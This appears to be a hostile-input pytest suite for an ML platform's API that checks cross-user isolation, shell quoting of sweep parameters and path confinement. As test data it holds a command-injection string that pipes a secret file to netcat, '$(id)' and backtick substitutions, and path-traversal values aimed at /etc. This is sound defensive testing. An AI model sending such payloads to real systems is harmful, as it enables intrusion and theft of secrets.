"""Issue 38's isolation classes, hostile: another user's checkpoints, sweeps and models do not exist for you; a
sweep's or an evaluation's values cannot leave their argument; a model path cannot leave the home."""

import os
from pathlib import Path

import pytest
import yaml

from tests.api.test_checkpoints_api import PPO, submit
from tests.api.test_sweeps_api import SWEEP
from tests.services.test_checkpoints import write_step

pytestmark = pytest.mark.hostile


def test_another_users_research_objects_do_not_exist(live) -> None:
    alice, bob = live.new_user("alice"), live.new_user("bob")
    tid = submit(alice, PPO)
    write_step(Path(live.ctx.settings.root) / "users" / "alice" / "runs" / "ppo", 2)
    sid = alice.post("/api/v2/sweeps", content=yaml.safe_dump(SWEEP).encode(),
                     headers={"Content-Type": "application/yaml"}).json()["sweep_id"]
    assert alice.post("/api/v2/models", json={"name": "m", "task_id": tid}).status_code == 201
    for method, path, body in (("POST", f"/api/v2/tasks/{tid}/evaluate", {}),
                               ("GET", f"/api/v2/tasks/{tid}/evaluations", None),
                               ("GET", f"/api/v2/tasks/{tid}/checkpoints/best?metric=val-core/x", None),
                               ("GET", f"/api/v2/sweeps/{sid}", None), ("POST", f"/api/v2/sweeps/{sid}/cancel", None),
                               ("POST", "/api/v2/models", {"name": "stolen", "task_id": tid}),
                               ("GET", "/api/v2/models/m", None), ("GET", "/api/v2/models/m@production", None),
                               ("PUT", "/api/v2/models/m/aliases/production", {"version": 1})):
        r = bob.request(method, path, json=body)
        assert r.status_code == 404, (method, path, r.status_code, r.text)
        assert "alice" not in r.text


def test_values_stay_one_argument_and_paths_stay_home(live) -> None:
    alice = live.new_user("alice")
    evil = "x; touch argus-pwned && cat secret > y | nc host 1"
    doc = {**SWEEP, "parameters": {"val_per_step": [0.1], "tag": [evil]}, "early_stop": None,
           "metric": None}
    r = alice.post("/api/v2/sweeps", content=yaml.safe_dump(doc).encode(), params={"dry_run": "true"},
                   headers={"Content-Type": "application/yaml"})
    assert r.status_code == 201, r.text
    command = r.json()["trials"][0]["spec"]["command"]
    assert " 'tag=" + evil + "' " in command, command  # one quoted shell word
    subst = {**doc, "parameters": {"trainer.experiment_name": ["$(id)", "`id`"]}}
    r = alice.post("/api/v2/sweeps", content=yaml.safe_dump(subst).encode(), headers={"Content-Type": "application/yaml"})
    assert r.status_code == 400 and [e["field"] for e in r.json()["detail"]["errors"]] == [
        "trials[0].command", "trials[1].command"], r.text  # admission refuses substitution even quoted
    r = alice.post("/api/v2/sweeps", content=yaml.safe_dump({**doc, "parameters": {"a;b": [1]}}).encode(),
                   headers={"Content-Type": "application/yaml"})
    assert r.status_code == 400 and r.json()["detail"]["errors"][0]["field"] == "parameters", r.text

    tid = submit(alice, PPO)
    write_step(Path(live.ctx.settings.root) / "users" / "alice" / "runs" / "ppo", 2)
    r = alice.post(f"/api/v2/tasks/{tid}/evaluate", json={"val_file": "$HOME/../bob/datasets/x.parquet"})
    assert r.status_code == 400, r.text
    home = Path(live.ctx.settings.root) / "users" / "alice"
    (home / "models").mkdir(exist_ok=True)
    os.symlink("/etc", home / "models" / "etc-link")
    for path in ("$HOME/models/etc-link", "$HOME/../bob/models/m", "/etc", "~/../../etc"):
        r = alice.post("/api/v2/models", json={"name": "m", "path": path})
        assert r.status_code == 400 and r.json()["detail"]["errors"][0]["field"] == "path", (path, r.text)


def test_a_team_registry_is_closed_to_outsiders_and_its_names_stay_names(live) -> None:
    """Team registries (issue 38): an outsider's every way in answers as for a team that does not exist, and no
    reference, name, team or alias can walk a path or smuggle a command: each is refused naming its field, the
    value and the rule."""
    admin, alice, mallory = live.admin(), live.new_user("alice"), live.new_user("mallory")
    assert admin.post("/api/v2/teams", json={"name": "nlp"}).status_code == 201
    assert admin.post("/api/v2/teams/nlp/members", json={"user": "alice", "role": "admin"}).status_code == 201
    tid = submit(alice, PPO)  # charged to nlp, alice's default team
    write_step(Path(live.ctx.settings.root) / "users" / "alice" / "runs" / "ppo", 2)
    assert alice.post("/api/v2/models", json={"name": "m", "task_id": tid}).json()["ref"] == "nlp/m:1"
    for method, path, body in (("GET", "/api/v2/models/nlp/m", None), ("GET", "/api/v2/models/nlp/m:1", None),
                               ("GET", "/api/v2/models/nlp%2Fm@production", None),
                               ("PUT", "/api/v2/models/nlp/m/aliases/production", {"version": 1}),
                               ("POST", "/api/v2/models", {"name": "m", "task_id": tid}),
                               ("POST", "/api/v2/models", {"name": "m", "path": "$HOME/models/x", "team": "nlp"})):
        r = mallory.request(method, path, json=body)
        assert r.status_code == 404, (method, path, r.status_code, r.text)
        assert "alice" not in r.text and "runs/ppo" not in r.text, r.text
    assert mallory.get("/api/v2/models").json() == []

    def refused(r, field: str) -> None:  # noqa: ANN001
        assert r.status_code == 400, r.text
        err = r.json()["detail"]["errors"][0]
        assert err["field"] == field and err["message"] and "value" in err, r.text

    for ref, field in (("%2E%2E%2F%2E%2E%2Fetc%2Fpasswd", "team"), ("nlp/%2E%2E", "name"), ("nlp/m%00", "name"),
                       ("NLP/m", "team"), ("nlp;id/m", "team"), ("nlp/m:1;id", "ref"), ("nlp/m@$(id)", "alias"),
                       ("nlp/m:0", "ref"), ("nlp/m:1@production", "ref"), ("nlp/b/c", "name")):
        refused(alice.get(f"/api/v2/models/{ref}"), field)
    for body, field in (({"name": "nlp/m", "task_id": tid}, "name"), ({"name": "../m", "task_id": tid}, "name"),
                        ({"name": "m", "task_id": tid, "team": "../../etc"}, "team"),
                        ({"name": "m", "path": "$HOME/teams/../users/mallory/x"}, "path"),
                        ({"name": "m", "path": "$HOME/teams/nlp"}, "path"),
                        ({"name": "m", "path": "$HOME/teams"}, "path"),
                        ({"name": "m", "task_id": tid, "team": "nlp`id`"}, "team")):
        refused(alice.post("/api/v2/models", json=body), field)
    refused(alice.put("/api/v2/models/nlp/m/aliases/$(id)", json={"version": 1}), "alias")
    refused(alice.put("/api/v2/models/nlp/m:1/aliases/production", json={"version": 1}), "ref")
